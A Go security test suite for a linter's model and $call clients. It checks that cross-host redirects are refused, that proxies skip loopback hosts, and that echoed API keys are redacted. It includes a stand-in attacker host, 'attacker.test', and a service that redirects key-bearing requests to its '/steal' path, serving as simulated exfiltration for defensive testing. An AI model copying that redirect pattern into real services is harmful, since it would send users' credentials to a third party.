package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vectorlint/vectorlint/internal/safehttp"
	"github.com/vectorlint/vectorlint/lint"
	"github.com/vectorlint/vectorlint/llm"
	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// The attacks of docs/security.md ("Redirects, proxies and echoed keys"), performed for real
// through the command: a trusted (loopback) model server or $call service that answers a
// redirect to another host, a proxy set in the environment that must not see requests to
// loopback hosts however they are spelled, and a model that echoes the key in a successful
// reply. Each has its positive control.

// envKey is the value of the variable a blueprint's headers name with --allow-env.
const envKey = "envKEY-allow-env-97531"

// logServer is a real HTTP server that logs every request it receives, whatever its path: the
// other host a redirect points at, or a proxy.
type logServer struct {
	srv *httptest.Server
	mu  sync.Mutex
	log []string // "METHOD host path?query | headers"
}

// startLogServer starts one; handle (nil: 200 with a JSON score) answers each request.
func startLogServer(t *testing.T, handle http.HandlerFunc) *logServer {
	t.Helper()
	l := &logServer{}
	l.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		l.log = append(l.log, fmt.Sprintf("%s %s %s | %v", r.Method, r.Host, r.URL.RequestURI(), r.Header))
		l.mu.Unlock()
		if handle != nil {
			handle(w, r)
			return
		}
		_, _ = io.Copy(io.Discard, r.Body)
		fmt.Fprint(w, `{"score": 1, "explain": "stolen"}`)
	}))
	t.Cleanup(l.srv.Close)
	return l
}

func (l *logServer) requests() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.log...)
}

func (l *logServer) reset() {
	l.mu.Lock()
	l.log = nil
	l.mu.Unlock()
}

// runWith runs the command in-process with the dial hook and, when proxy is not nil, a proxy
// for every HTTP client (as HTTP_PROXY would give). No secret may appear on stdout or stderr.
func runWith(t *testing.T, dir string, env map[string]string, net routes, proxy *url.URL, args ...string) cliResult {
	t.Helper()
	var stdout, stderr bytes.Buffer
	a := &app{stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, dir: dir,
		lookupEnv:   func(k string) (string, bool) { v, ok := env[k]; return v, ok },
		now:         func() time.Time { return e2eNow },
		dialContext: net.dial,
		tuneLLM:     func(c *llm.Config) { c.BaseDelay, c.MaxDelay = time.Millisecond, 2*time.Millisecond }}
	if proxy != nil {
		a.proxy = http.ProxyURL(proxy)
	}
	code := a.run(context.Background(), args)
	r := cliResult{stdout: stdout.String(), stderr: stderr.String(), code: code}
	for _, secret := range []string{userKey, envKey} {
		if strings.Contains(r.stdout+r.stderr, secret) {
			t.Errorf("the secret %q is in the output:\n%s\n%s", secret, r.stdout, r.stderr)
		}
	}
	return r
}

// redirecting is a fake model server that answers every request with a redirect to the same
// path and query at target (scheme://host:port).
func redirecting(t *testing.T, code int, target string) *llmtest.Server {
	srv := llmtest.Start(t)
	srv.On(llmtest.Any(), llmtest.Dynamic(func(r *llmtest.Request) llmtest.Reply {
		return llmtest.Redirect(code, target+r.Path+"?"+r.Query)
	}))
	return srv
}

// redirectRefused is the message of a refused redirect (safehttp.RedirectError; its exact
// text is asserted in package safehttp).
func redirectRefused(from, to string) string {
	return from + " redirected the request to " + to + ": a request that may carry a key follows a redirect only to the same scheme, host and port, so nothing was sent to " + to
}

// portOf is the port of a server URL.
func portOf(rawURL string) string {
	u, _ := url.Parse(rawURL)
	return u.Port()
}

// lintFailure is the line output of a one-rule lint run whose only call failed with msg.
func lintFailure(msg string) string {
	return "docs/a.md\n  Could not run:\n    Acme.Wordiness  " + msg + "\n\n" +
		"LLM usage: 0 calls, 0 input and 0 output tokens\n✖ 0 errors and 0 warnings in 1 file; 1 rule run could not complete.\n"
}

// TestRedirectLintRefused: the linter's model on a trusted loopback host — OpenAI, Azure
// (api-key header, api-version query), Anthropic, Gemini — answers 301, 302, 307 or 308
// towards attacker.test: the call fails at once with the message naming both hosts, and
// attacker.test receives nothing.
func TestRedirectLintRefused(t *testing.T) {
	t.Parallel()
	attacker := startLogServer(t, nil)
	attackerURL := "http://attacker.test:" + portOf(attacker.srv.URL)
	net := routes{"attacker.test": addrOf(attacker.srv.URL)}
	providers := map[string]func(base string) map[string]string{
		"openai": func(base string) map[string]string {
			return map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_BASE_URL": base, "OPENAI_MODEL": "m"}
		},
		"azure": func(base string) map[string]string {
			return map[string]string{"LLM_PROVIDER": "azure-openai", "AZURE_OPENAI_API_KEY": userKey,
				"AZURE_OPENAI_ENDPOINT": strings.TrimSuffix(base, "/v1"), "AZURE_OPENAI_DEPLOYMENT_NAME": "m", "AZURE_OPENAI_API_VERSION": "2024-10-21"}
		},
		"anthropic": func(base string) map[string]string {
			return map[string]string{"LLM_PROVIDER": "anthropic", "ANTHROPIC_API_KEY": userKey, "ANTHROPIC_BASE_URL": base, "ANTHROPIC_MODEL": "m"}
		},
		"gemini": func(base string) map[string]string {
			return map[string]string{"LLM_PROVIDER": "gemini", "GEMINI_API_KEY": userKey, "GEMINI_BASE_URL": base, "GEMINI_MODEL": "m"}
		},
	}
	for name, env := range providers {
		for _, code := range []int{301, 302, 307, 308} {
			t.Run(fmt.Sprintf("%s %d", name, code), func(t *testing.T) {
				t.Parallel()
				srv := redirecting(t, code, attackerURL)
				r := runWith(t, trustProject(t, nil), env(srv.URL), net, nil, "--no-cache", "docs")
				msg := "llm: chat completion with m at " + addrOf(srv.URL) + ": " + redirectRefused("http://"+addrOf(srv.URL), attackerURL)
				r.expect(t, exitFailure, lintFailure(msg), "")
				if n := len(srv.Requests()); n != 1 {
					t.Errorf("the model server got %d requests, want 1 (not retried)", n)
				}
			})
		}
	}
	t.Cleanup(func() {
		if n := len(attacker.requests()); n != 0 {
			t.Errorf("attacker.test got %d requests: %v", n, attacker.requests())
		}
	})
}

// TestRedirectSearchRefused: the technical-accuracy rule's search model redirects: the search
// fails naming both hosts, attacker.test receives nothing.
func TestRedirectSearchRefused(t *testing.T) {
	t.Parallel()
	attacker := startLogServer(t, nil)
	attackerURL := "http://attacker.test:" + portOf(attacker.srv.URL)
	good := startModel(t)
	search := redirecting(t, http.StatusTemporaryRedirect, attackerURL)
	dir := trustProject(t, map[string]string{
		"rules/Acme/wordiness.md": "---\nid: Facts\nname: Facts\nevaluator: technical-accuracy\ntype: subjective\n" +
			"criteria: [{id: Accuracy, name: Accuracy}]\n---\nCheck the claims against the evidence.\n",
		"docs/a.md": "Go 1.0 shipped in 2009.\n",
	})
	env := withEnv(fakeEnv(good), "PERPLEXITY_API_KEY", userKey, "PERPLEXITY_BASE_URL", search.URL)
	r := runWith(t, dir, env, routes{"attacker.test": addrOf(attacker.srv.URL)}, nil, "--no-cache", "docs")
	want := redirectRefused("http://"+addrOf(search.URL), attackerURL)
	if r.code != exitFailure || !strings.Contains(r.stdout, "llm: chat completion with sonar-pro at "+addrOf(search.URL)+": "+want+"\n") {
		t.Errorf("exit %d\n%s%s\nwant the search failure: %s", r.code, r.stdout, r.stderr, want)
	}
	if n := len(attacker.requests()); n != 0 {
		t.Errorf("attacker.test got %d requests: %v", n, attacker.requests())
	}
}

// TestRedirectBlueprintRefused: custom models whose key --allow-env filled in (Anthropic's
// x-api-key, Gemini's key in the url's query, an OpenAI-shaped model's Authorization and a
// custom header) on a loopback url redirect to attacker.test; so does a $call service whose
// header carries the value. Every call fails naming both hosts; attacker.test receives
// nothing, and the result document holds no value.
func TestRedirectBlueprintRefused(t *testing.T) {
	t.Parallel()
	attacker := startLogServer(t, nil)
	attackerURL := "http://attacker.test:" + portOf(attacker.srv.URL)
	net := routes{"attacker.test": addrOf(attacker.srv.URL)}
	for _, code := range []int{301, 302, 307, 308} {
		t.Run(fmt.Sprint(code), func(t *testing.T) {
			t.Parallel()
			srv := redirecting(t, code, attackerURL)
			root := strings.TrimSuffix(srv.URL, "/v1")
			svc := startLogServer(t, func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, attackerURL+"/steal?"+r.URL.RawQuery, code)
			})
			bp := "models:\n" +
				"  - id: c:claude\n    url: " + root + "/v1/messages\n    modelName: claude-x\n    inherit: anthropic\n    headers: {x-api-key: \"${MY_KEY}\"}\n" +
				"  - id: c:gem\n    url: " + root + "/v1beta/models/g:generateContent?key=${MY_KEY}\n    modelName: g\n    inherit: google\n" +
				"  - id: c:gpt\n    url: " + root + "/v1/chat/completions\n    modelName: gpt-x\n    inherit: openai\n" +
				"    headers: {Authorization: \"Bearer ${MY_KEY}\", X-Team-Token: \"${MY_KEY}\"}\n" +
				"---\n- id: p\n  prompt: Capital of France?\n  should:\n    - $contains: Paris\n" +
				"    - $call: {url: \"" + svc.srv.URL + "/check?token=${MY_KEY}\", headers: {X-Key: \"${MY_KEY}\"}, max_retries: 0}\n"
			dir := writeBlueprintFiles(t, map[string]string{"bp.yml": bp})
			env := map[string]string{"MY_KEY": envKey}
			r := runWith(t, dir, env, net, nil, "blueprint", "run", "bp.yml", "--no-cache", "--out-dir", "out", "--allow-env", "MY_KEY", "--allow-net")
			host := addrOf(srv.URL)
			refused := redirectRefused("http://"+host, attackerURL)
			for _, want := range []string{
				"  p × c:claude[temp:0]: llm: messages with claude-x at " + host + ": " + refused + "\n",
				"  p × c:gem[temp:0]: llm: generateContent with g at " + host + ": " + refused + "\n",
				"  p × c:gpt[temp:0]: llm: chat completion with gpt-x at " + host + ": " + refused + "\n",
			} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("missing %q in\n%s", want, r.stdout)
				}
			}
			if r.code != exitFailure {
				t.Errorf("exit %d", r.code)
			}
			// $call, on given responses: the point's error names both hosts.
			writeTestTree(t, dir, map[string]string{"r.jsonl": `{"promptId": "p", "model": "m:a", "response": "Paris."}` + "\n"})
			r = runWith(t, dir, env, net, nil, "blueprint", "run", "bp.yml", "--responses", "r.jsonl", "--out-dir", "out", "--allow-env", "MY_KEY", "--allow-net")
			callRefused := "request to " + svc.srv.URL + "/check failed: " + redirectRefused(svc.srv.URL, attackerURL)
			results := readAll(t, filepath.Join(dir, "out"))
			if !strings.Contains(results, callRefused) {
				t.Errorf("the result document does not hold the $call refusal %q:\n%s\n%s", callRefused, r.stdout, r.stderr)
			}
			if strings.Contains(results, envKey) {
				t.Error("the result document holds the --allow-env value")
			}
			if n := len(svc.requests()); n != 1 {
				t.Errorf("the service got %d requests, want 1", n)
			}
		})
	}
	t.Cleanup(func() {
		if n := len(attacker.requests()); n != 0 {
			t.Errorf("attacker.test got %d requests: %v", n, attacker.requests())
		}
	})
}

// readAll is the content of every file under dir, each after its name.
func readAll(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		b.WriteString("== " + path + "\n")
		b.Write(data)
		b.WriteString("\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// sameOrigin is a fake model server that moves everything under /v1 to the root with a 307 or
// 308 (a gateway that moved its API), then answers as startModel does.
func sameOrigin(t *testing.T, code int) *llmtest.Server {
	srv := llmtest.Start(t)
	srv.On(func(r *llmtest.Request) bool { return strings.HasPrefix(r.Path, "/v1/") }, llmtest.Dynamic(func(r *llmtest.Request) llmtest.Reply {
		return llmtest.Redirect(code, strings.TrimPrefix(r.Path, "/v1")+"?"+r.Query)
	}))
	srv.SetDefault(llmtest.Dynamic(answerAll))
	return srv
}

// TestRedirectSameOriginFollowed is the positive control: a 307 or 308 to another path of the
// same host and port is followed, key included and without Referer, and the run's output is
// byte for byte the output of a run against a server that does not redirect; a blueprint's
// custom model and $call service behave the same.
func TestRedirectSameOriginFollowed(t *testing.T) {
	t.Parallel()
	direct := startModel(t)
	dir := trustProject(t, nil)
	env := map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_MODEL": "m"}
	want := runWith(t, dir, withEnv(env, "OPENAI_BASE_URL", direct.URL), nil, nil, "--no-cache", "--output", "json", "docs")
	if want.code != exitOK || !strings.Contains(want.stdout, `Say \"to\".`) {
		t.Fatalf("direct run: exit %d, no finding\n%s%s", want.code, want.stdout, want.stderr)
	}
	for _, code := range []int{307, 308} {
		srv := sameOrigin(t, code)
		got := runWith(t, dir, withEnv(env, "OPENAI_BASE_URL", srv.URL), nil, nil, "--no-cache", "--output", "json", "docs")
		got.expect(t, want.code, want.stdout, want.stderr)
		reqs := srv.Requests()
		if len(reqs) != 2 || reqs[1].Path != "/chat/completions" || reqs[1].Header.Get("Authorization") != "Bearer "+userKey || reqs[1].Header.Get("Referer") != "" {
			t.Errorf("%d: requests %d, the followed one %s %v", code, len(reqs), reqs[len(reqs)-1].Path, reqs[len(reqs)-1].Header)
		}
	}

	// A custom model and a $call service that move within their origin.
	srv := sameOrigin(t, http.StatusPermanentRedirect)
	svc := startLogServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/old" {
			http.Redirect(w, r, "/new", http.StatusTemporaryRedirect)
			return
		}
		_, _ = io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, `{"score": 1, "explain": "moved; referer [%s]"}`, r.Header.Get("Referer"))
	})
	bp := "models:\n  - id: c:claude\n    url: " + strings.TrimSuffix(srv.URL, "/v1") + "/v1/messages\n    modelName: claude-x\n    inherit: anthropic\n" +
		"    headers: {x-api-key: \"${MY_KEY}\"}\n" +
		"---\n- id: p\n  prompt: Capital of France?\n  should:\n    - $contains: Paris\n" +
		"    - $call: {url: \"" + svc.srv.URL + "/old\", headers: {X-Key: \"${MY_KEY}\"}}\n"
	bpDir := writeBlueprintFiles(t, map[string]string{"bp.yml": bp})
	r := runWith(t, bpDir, map[string]string{"MY_KEY": envKey}, nil, nil, "blueprint", "run", "bp.yml", "--no-cache", "--out-dir", "out", "--allow-env", "MY_KEY", "--allow-net")
	if r.code != exitOK || !strings.Contains(r.stdout, "p        1.00\n") {
		t.Errorf("blueprint: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if results := readAll(t, filepath.Join(bpDir, "out")); !strings.Contains(results, `moved; referer []`) {
		t.Errorf("the $call answer after the redirect is not in the results:\n%s", results)
	}
	if reqs := srv.Requests(); len(reqs) != 2 || reqs[1].Header.Get("X-Api-Key") != envKey {
		t.Errorf("custom model: %d requests", len(reqs))
	}
}

// forwardingProxy is a logging HTTP proxy: it records every request it is asked to forward and
// forwards it to the address to gives for the request's host (nothing else is reachable).
func forwardingProxy(t *testing.T, to map[string]string) *logServer {
	return startLogServer(t, func(w http.ResponseWriter, r *http.Request) {
		addr, ok := to[r.URL.Hostname()]
		if !ok || r.Method == http.MethodConnect {
			http.Error(w, "test proxy: no route to "+r.URL.Host, http.StatusBadGateway)
			return
		}
		out := r.Clone(r.Context())
		out.RequestURI, out.URL.Host = "", addr
		res, err := (&http.Transport{}).RoundTrip(out)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer res.Body.Close()
		for k, v := range res.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(res.StatusCode)
		_, _ = io.Copy(w, res.Body)
	})
}

// loopbackOnly dials every loopback spelling at 127.0.0.1 on the same port (the system
// resolver knows neither "localhost." nor "LocalHost."), and nothing else: a host that is not
// loopback is reached through the proxy or not at all.
func loopbackOnly(ctx context.Context, network, addr string) (net.Conn, error) {
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		return nil, err
	}
	if !safehttp.IsLoopback(host) {
		return nil, fmt.Errorf("test network: no route to %s", host)
	}
	return (&net.Dialer{}).DialContext(ctx, network, net.JoinHostPort("127.0.0.1", port))
}

// loopbackSpellings are the ways a base URL can name this machine; none may go through a proxy.
var loopbackSpellings = []string{"LOCALHOST", "localhost.", "LocalHost.", "localhost", "127.0.0.1", "127.0.0.2", "[::1]"}

// TestProxySkipsLoopback: with a proxy for every request (as HTTP_PROXY and HTTPS_PROXY give),
// a model or $call service on a loopback host, however it is spelled, is called directly and
// the proxy sees nothing; a host that is not loopback goes through the proxy (the positive
// control).
func TestProxySkipsLoopback(t *testing.T) {
	t.Parallel()
	model := startModel(t)
	svc := startLogServer(t, nil)
	proxy := forwardingProxy(t, map[string]string{"models.test": addrOf(model.URL), "svc.test": addrOf(svc.srv.URL)})
	proxyURL, _ := url.Parse(proxy.srv.URL)
	dir := trustProject(t, nil)
	run := func(dir string, env map[string]string, args ...string) cliResult {
		var stdout, stderr bytes.Buffer
		a := &app{stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, dir: dir,
			lookupEnv: func(k string) (string, bool) { v, ok := env[k]; return v, ok },
			now:       func() time.Time { return e2eNow }, dialContext: loopbackOnly, proxy: http.ProxyURL(proxyURL)}
		return cliResult{stdout: stdout.String(), stderr: stderr.String(), code: a.run(context.Background(), args)}
	}
	mport, sport := portOf(model.URL), portOf(svc.srv.URL)
	for _, host := range append(loopbackSpellings, "models.test") {
		proxy.reset()
		before := model.Calls()
		env := map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_MODEL": "m", "OPENAI_BASE_URL": "http://" + host + ":" + mport + "/v1"}
		r := run(dir, env, "--no-cache", "docs")
		if r.code != exitOK || model.Calls() != before+1 {
			t.Errorf("%s: exit %d, %d calls\n%s%s", host, r.code, model.Calls()-before, r.stdout, r.stderr)
		}
		got := proxy.requests()
		if host == "models.test" {
			if len(got) != 1 || !strings.HasPrefix(got[0], "POST models.test:"+mport+" /v1/chat/completions | ") || !strings.Contains(got[0], "Bearer "+userKey) {
				t.Errorf("models.test: the proxy got %v, want the call through it", got)
			}
		} else if len(got) != 0 {
			t.Errorf("%s: the proxy got %v", host, got)
		}
	}

	// $call, on given responses.
	bp := "---\n- id: p\n  prompt: Q\n  should:\n"
	for _, host := range append(loopbackSpellings, "svc.test") {
		bp += "    - $call: {url: \"http://" + host + ":" + sport + "/check\", headers: {X-Key: \"${MY_KEY}\"}}\n"
	}
	bpDir := writeBlueprintFiles(t, map[string]string{"bp.yml": bp, "r.jsonl": `{"promptId": "p", "model": "m:a", "response": "Paris."}` + "\n"})
	proxy.reset()
	r := run(bpDir, map[string]string{"MY_KEY": envKey, "VECTORLINT_TRUSTED_HOSTS": "svc.test"},
		"blueprint", "run", "bp.yml", "--responses", "r.jsonl", "--out-dir", "out", "--allow-net", "--allow-env", "MY_KEY")
	if r.code != exitOK || len(svc.requests()) != len(loopbackSpellings)+1 {
		t.Errorf("$call: exit %d, the service got %d requests\n%s%s", r.code, len(svc.requests()), r.stdout, r.stderr)
	}
	if got := proxy.requests(); len(got) != 1 || !strings.HasPrefix(got[0], "POST svc.test:"+sport+" /check | ") {
		t.Errorf("$call: the proxy got %v, want svc.test only", got)
	}
}

// TestProxyFromEnvironmentProcess runs vectorlint as a real process with HTTP_PROXY and
// HTTPS_PROXY in its environment (read by http.ProxyFromEnvironment, whose own bypass knows
// only the lower-case name localhost and loopback addresses): LOCALHOST, 127.0.0.1 and [::1]
// are called directly, models.test through the proxy. ("localhost." resolves only through
// the test dialer: TestProxySkipsLoopback covers it.)
func TestProxyFromEnvironmentProcess(t *testing.T) {
	t.Parallel()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	model := startModel(t)
	proxy := forwardingProxy(t, map[string]string{"models.test": addrOf(model.URL)})
	dir := trustProject(t, nil)
	hosts := map[string]string{"LOCALHOST": portOf(model.URL), "127.0.0.1": portOf(model.URL), "models.test": portOf(model.URL)}
	if v6, err := forwardTCP(t, "[::1]:0", addrOf(model.URL)); err == nil {
		hosts["[::1]"] = portOf("http://" + v6)
	} else {
		t.Logf("no IPv6 loopback here (%v): [::1] is covered by TestProxySkipsLoopback", err)
	}
	for host, port := range hosts {
		proxy.reset()
		before := model.Calls()
		cmd := exec.Command(exe, "--no-cache", "docs")
		cmd.Dir = dir
		cmd.Env = []string{beMain + "=1", "HOME=" + dir, "HTTP_PROXY=" + proxy.srv.URL, "HTTPS_PROXY=" + proxy.srv.URL,
			"OPENAI_API_KEY=" + userKey, "OPENAI_MODEL=m", "OPENAI_BASE_URL=http://" + host + ":" + port + "/v1"}
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		if code := waitExit(t, cmd); code != exitOK || model.Calls() != before+1 {
			t.Errorf("%s: exit %d, %d calls\n%s%s", host, code, model.Calls()-before, stdout.String(), stderr.String())
		}
		if strings.Contains(stdout.String()+stderr.String(), userKey) {
			t.Errorf("%s: the key is in the output", host)
		}
		got := proxy.requests()
		if host == "models.test" {
			if len(got) != 1 || !strings.HasPrefix(got[0], "POST models.test:"+port+" /v1/chat/completions | ") {
				t.Errorf("models.test: the proxy got %v, want the call through it", got)
			}
		} else if len(got) != 0 {
			t.Errorf("%s: the proxy got %v", host, got)
		}
	}
}

// forwardTCP listens on listen and copies every connection to and from to; it returns the
// address it listens on.
func forwardTCP(t *testing.T, listen, to string) (string, error) {
	l, err := net.Listen("tcp", listen)
	if err != nil {
		return "", err
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				up, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				defer up.Close()
				go func() { _, _ = io.Copy(up, c) }()
				_, _ = io.Copy(c, up)
			}()
		}
	}()
	return l.Addr().String(), nil
}

// TestEchoedKeyRedacted: a model that repeats the key it was sent in a successful reply, and a
// $call service that repeats the --allow-env value in its explanation: the key appears nowhere
// — lint's line and JSON output, the cache folder (and the run answered from it), a
// blueprint's result document and HTML report — and "[redacted]" stands in its place. A reply
// without a key, even one with key-shaped text, is printed exactly (the positive control).
func TestEchoedKeyRedacted(t *testing.T) {
	t.Parallel()
	echoed := func(r *llmtest.Request) string {
		for _, h := range []string{"Authorization", "X-Api-Key"} {
			if v := r.Header.Get(h); v != "" {
				return strings.TrimPrefix(v, "Bearer ")
			}
		}
		return "nothing"
	}
	model := llmtest.Start(t)
	model.SetDefault(llmtest.Dynamic(func(r *llmtest.Request) llmtest.Reply {
		if strings.Contains(r.System(), "<rule name=") {
			return llmtest.JSON(map[string]any{"violations": []any{map[string]any{"quoted_text": "in order to", "line": 1,
				"message": "Say \"to\". You sent " + echoed(r) + ".", "confidence": 0.9}}})
		}
		return llmtest.Text("Paris. You sent " + echoed(r) + ".")
	}))
	root := t.TempDir()
	cache := filepath.Join(root, "cache")
	dir := trustProject(t, nil)
	env := map[string]string{"OPENAI_API_KEY": userKey, "OPENAI_MODEL": "m", "OPENAI_BASE_URL": model.URL, "MY_KEY": envKey}
	for i, format := range []string{"line", "json", "json"} { // the last one from the cache
		r := runWith(t, dir, env, nil, nil, "--cache-dir", cache, "--output", format, "docs")
		want := "Say \"to\". You sent [redacted]."
		if format == "json" {
			want = `Say \"to\". You sent [redacted].`
		}
		if r.code != exitOK || !strings.Contains(r.stdout, want) {
			t.Errorf("lint %d (%s): exit %d, want %q in\n%s%s", i, format, r.code, want, r.stdout, r.stderr)
		}
	}
	if n := model.Calls(); n != 1 {
		t.Errorf("%d model calls, want 1 (then the cache)", n)
	}
	// --debug-json writes the model's raw output: redacted too.
	if r := runWith(t, dir, env, nil, nil, "--no-cache", "--debug-json", "docs"); r.code != exitOK {
		t.Errorf("--debug-json: exit %d\n%s", r.code, r.stderr)
	}
	if debug := readAll(t, filepath.Join(dir, lint.DefaultDebugDir)); !strings.Contains(debug, "You sent [redacted].") || strings.Contains(debug, userKey) {
		t.Errorf("the --debug-json output holds the key or lacks the redacted reply:\n%s", debug)
	}

	svc := startLogServer(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		fmt.Fprintf(w, `{"score": 1, "explain": "checked with %s"}`, r.Header.Get("X-Key"))
	})
	bp := "models:\n  - openai:gpt-x\n" +
		"  - id: c:claude\n    url: " + strings.TrimSuffix(model.URL, "/v1") + "/v1/messages\n    modelName: claude-x\n    inherit: anthropic\n" +
		"    headers: {x-api-key: \"${MY_KEY}\"}\n" +
		"---\n- id: p\n  prompt: Capital of France?\n  should:\n    - $contains: Paris\n" +
		"    - $call: {url: \"" + svc.srv.URL + "/check\", headers: {X-Key: \"${MY_KEY}\"}}\n"
	bpDir := writeBlueprintFiles(t, map[string]string{"bp.yml": bp})
	r := runWith(t, bpDir, env, nil, nil, "blueprint", "run", "bp.yml", "--cache-dir", cache, "--out-dir", "out", "--html", "report.html",
		"--allow-env", "MY_KEY", "--allow-net")
	if r.code != exitOK {
		t.Fatalf("blueprint: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	results, html := readAll(t, filepath.Join(bpDir, "out")), readAll(t, filepath.Join(bpDir, "report.html"))
	for what, text := range map[string]string{"result document": results, "HTML report": html} {
		for _, want := range []string{"Paris. You sent [redacted].", "checked with [redacted]"} {
			if !strings.Contains(text, want) {
				t.Errorf("the %s lacks %q", what, want)
			}
		}
	}
	for what, text := range map[string]string{"result document": results, "HTML report": html, "cache": readAll(t, cache)} {
		for _, secret := range []string{userKey, envKey} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s holds %q", what, secret)
			}
		}
	}

	// The positive control: a reply with key-shaped text that is not a key is kept exactly.
	plain := "Say \"to\" (not sk-not-the-key-0123456789abcdef, Bearer abcdefghijklmnop, api_key=abcdefgh1234)."
	other := llmtest.Start(t)
	other.SetDefault(llmtest.JSON(map[string]any{"violations": []any{map[string]any{"quoted_text": "in order to", "line": 1, "message": plain, "confidence": 0.9}}}))
	r = runWith(t, dir, withEnv(env, "OPENAI_BASE_URL", other.URL), nil, nil, "--no-cache", "--output", "json", "docs")
	quoted, _ := json.Marshal(plain)
	if r.code != exitOK || !strings.Contains(r.stdout, `"message": `+string(quoted)) {
		t.Errorf("a reply without a key changed: exit %d, want %s in\n%s", r.code, quoted, r.stdout)
	}
}
